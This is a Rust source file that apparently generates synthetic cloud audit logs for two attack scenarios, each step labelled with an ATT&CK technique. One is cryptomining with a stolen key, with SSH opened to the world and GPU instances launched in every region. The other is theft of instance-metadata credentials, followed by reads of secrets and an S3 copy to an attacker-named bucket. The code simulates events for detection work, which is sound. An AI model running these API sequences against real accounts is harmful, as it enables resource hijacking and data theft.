//! Machines started to mine coins, and the credentials of a machine used elsewhere.

use super::Stage;
use crate::synth::actor::Kind;
use crate::synth::identity::Delivery;
use crate::synth::names::ATTACKER_ACCOUNT;
use crate::synth::script::{Caller, Credentials, Script};
use crate::synth::session;
use crate::synth::template::Word;

const GO: &str = "aws-sdk-go/1.44.266 (go1.20.4; linux; amd64)";
const CURL: &str = "python-requests/2.31.0";

/// Which quotas there are, then large machines in every region until the account says no.
pub(super) fn mining(s: &mut Script<'_>, stage: Stage) {
    let world = s.world();
    let who = stage.stolen_key(world, "svc-build", GO);
    s.by(&who);
    s.phase("initial-access", "T1078.004");
    s.ok("sts", "GetCallerIdentity");
    s.phase("recon", "T1580");
    s.sweep((1, 6), "ec2", &["DescribeRegions", "DescribeInstanceTypes", "DescribeSpotPriceHistory"]);
    s.sweep((1, 6), "ec2", &["DescribeImages", "DescribeKeyPairs", "DescribeSecurityGroups", "DescribeVpcs"]);
    s.phase("recon", "T1526");
    s.sweep(
        (1, 6),
        "servicequotas",
        &["ListServiceQuotas", "GetServiceQuota", "RequestServiceQuotaIncrease"],
    );
    let sites = world.sites.iter().enumerate().filter(|site| site.1.account == stage.account);
    for (site, _) in sites {
        s.at(site);
        s.phase("persistence", "T1098.004");
        s.sweep((2, 9), "ec2", &["CreateKeyPair", "CreateSecurityGroup"]);
        s.phase("defense-impairment", "T1686.001");
        s.sweep((2, 9), "ec2", &["AuthorizeSecurityGroupIngress"]);
        s.asking(r#"{"groupId":"$sg","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}"#);
        s.phase("impact", "T1496.001");
        for i in 0..stage.bulk / 6 {
            start_machine(s, i);
        }
        s.sweep((5, 30), "ec2", &["RequestSpotInstances"]);
    }
}

/// One large machine; most attempts meet a limit.
fn start_machine(s: &mut Script<'_>, attempt: u64) {
    s.wait(1, 8);
    s.ok("ec2", "RunInstances").asking(r#"{"instancesSet":{"items":[{"imageId":"$image","minCount":1,"maxCount":8,"keyName":"$word-$hex8"}]},"instanceType":"p4d.24xlarge","blockDeviceMapping":{},"monitoring":{"enabled":false},"subnetId":"$subnet","disableApiTermination":true,"userData":"<sensitiveDataRemoved>","clientToken":"$uuid"}"#);
    match attempt % 5 {
        0 => {}
        1 | 2 => s.failing(
            "Client.VcpuLimitExceeded",
            "You have requested more vCPU capacity than your current vCPU limit of 64 allows for the instance bucket that the specified instance type belongs to.",
        ),
        3 => s.failing("Client.RequestLimitExceeded", "Request limit exceeded."),
        _ => s.failing("Server.InsufficientInstanceCapacity", "There is no capacity for p4d.24xlarge in the Availability Zone."),
    }
}

/// What a web server's metadata gave away is used from outside.
pub(super) fn instance(s: &mut Script<'_>, stage: Stage) {
    let world = s.world();
    let works_there = |a: &&crate::synth::actor::Actor| {
        a.kind == Kind::Instance && a.homes.iter().any(|h| world.account_of(h.site) == stage.account)
    };
    let fleets = || world.actors.iter().filter(|a| a.kind == Kind::Instance);
    let Some(fleet) = world.actors.iter().find(works_there).or_else(|| fleets().next()) else { return };
    let site = fleet.homes.first().map_or(0, |h| h.site);
    let account = world.account_of(site);
    let mut role = session::at(world, fleet, account, 0, s.time);
    role.delivery = Delivery::OldInstance;
    let credentials = Credentials::Role(role);
    let who = Caller { account, credentials, address: stage.address(0), agent: CURL.to_owned() };
    s.by(&who);
    s.at(site);
    s.phase("credential-access", "T1552.005");
    s.ok("sts", "GetCallerIdentity");
    s.phase("recon", "T1580");
    s.sweep((2, 12), "s3", &["ListBuckets"]);
    s.sweep((2, 12), "ec2", &["DescribeInstances"]);
    for name in ["ListUsers", "ListRoles", "GetAccountAuthorizationDetails", "ListAttachedRolePolicies"] {
        s.wait(2, 12);
        s.denied("iam", name);
    }
    for (service, name) in
        [("ec2", "DescribeSnapshots"), ("rds", "DescribeDBInstances"), ("lambda", "ListFunctions20150331")]
    {
        s.wait(2, 12);
        s.denied(service, name);
    }
    s.phase("credential-access", "T1555.006");
    s.sweep((4, 20), "ssm", &["GetParametersByPath", "GetParameter", "GetParameters"]);
    s.sweep((4, 20), "secretsmanager", &["GetSecretValue", "GetSecretValue"]);
    let bucket = s.filled("$bucket");
    s.set(Word::Bucket, bucket);
    s.phase("exfiltration", "T1530");
    s.sweep((4, 20), "s3", &["ListObjects"]);
    for _ in 0..stage.bulk {
        s.wait(0, 5);
        s.ok("s3", "GetObject");
    }
    s.phase("exfiltration", "T1537");
    s.sweep((30, 90), "s3", &["CopyObject"]);
    s.asking(&format!(
        r#"{{"bucketName":"sync-{ATTACKER_ACCOUNT}","x-amz-copy-source":"$bucket/$key","Host":"sync-{ATTACKER_ACCOUNT}.s3.$region.amazonaws.com","key":"$key"}}"#
    ));
}
